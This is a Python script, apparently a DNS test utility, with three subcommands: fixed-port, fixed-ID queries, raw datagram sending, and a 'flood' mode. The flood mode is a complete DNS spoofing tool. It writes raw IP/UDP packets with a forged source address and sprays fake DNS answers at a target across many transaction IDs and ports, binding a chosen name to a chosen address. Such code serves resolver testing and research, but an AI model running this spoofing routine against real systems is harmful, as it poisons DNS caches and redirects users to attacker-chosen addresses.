#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""DNS questions that dig does not ask.

dns.py sequence SERVER NAME...         one after the other from one socket, port 5555, ID 0x1234: a line for each:
                                       RCODE ADDRESS... or "timeout"
dns.py raw SERVER HEX                  this datagram; the answer in hex, or "timeout"
dns.py flood SOURCE TARGET PORT NAME ADDRESS SECONDS
                                       answers as if from SOURCE port 53 to TARGET: NAME is ADDRESS, ID 0x1234 and
                                       others, to PORT and others (a raw socket)
"""
import socket
import struct
import sys
import time

ID, PORT = 0x1234, 5555


def pack_name(name):
    return b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".")) + b"\0"


def addresses(message):
    """IPv4 addresses in the answer section of a message without compression but pointers."""
    found, at = [], 12
    counts = struct.unpack(">HHHH", message[4:12])

    def skip_name(at):
        while message[at]:
            if message[at] & 0xC0:
                return at + 2
            at += 1 + message[at]
        return at + 1
    for _ in range(counts[0]):
        at = skip_name(at) + 4
    for _ in range(counts[1]):
        at = skip_name(at)
        kind, length = struct.unpack(">H6xH", message[at:at + 10])
        if kind == 1:
            found.append(socket.inet_ntoa(message[at + 10:at + 14]))
        at += 10 + length
    return found


def sequence(server, *names):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("", PORT))
    s.connect((server, 53))
    s.settimeout(3)
    for name in names:
        s.send(struct.pack(">6H", ID, 0x0100, 1, 0, 0, 0) + pack_name(name) + b"\0\1\0\1")
        try:
            reply = s.recv(4096)
            print(name, reply[3] & 15, *addresses(reply))
        except OSError as e:
            print(name, type(e).__name__)


def raw(server, text):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.connect((server, 53))
    s.send(bytes.fromhex(text))
    try:
        print(s.recv(4096).hex())
    except OSError as e:
        print(type(e).__name__)


def flood(source, target, port, name, address, seconds):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    question = pack_name(name) + b"\0\1\0\1"
    answer = pack_name(name) + struct.pack(">HHIH", 1, 1, 3600, 4) + socket.inet_aton(address)
    end, n = time.monotonic() + float(seconds), 0
    while time.monotonic() < end:
        for message_id in (ID, n & 0xFFFF):
            message = struct.pack(">6H", message_id, 0x8180, 1, 1, 0, 0) + question + answer
            for to in (int(port), 1024 + n % 64000):
                udp = struct.pack(">HHHH", 53, to, 8 + len(message), 0) + message
                head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), n & 0xFFFF, 0, 64, 17, 0,
                                   socket.inet_aton(source), socket.inet_aton(target))
                s.sendto(head + udp, (target, 0))
        n += 1
        if n % 50 == 0:
            time.sleep(0.002)
    print(n * 4, "forged answers")


if __name__ == "__main__":
    {"sequence": sequence, "raw": raw, "flood": flood}[sys.argv[1]](*sys.argv[2:])
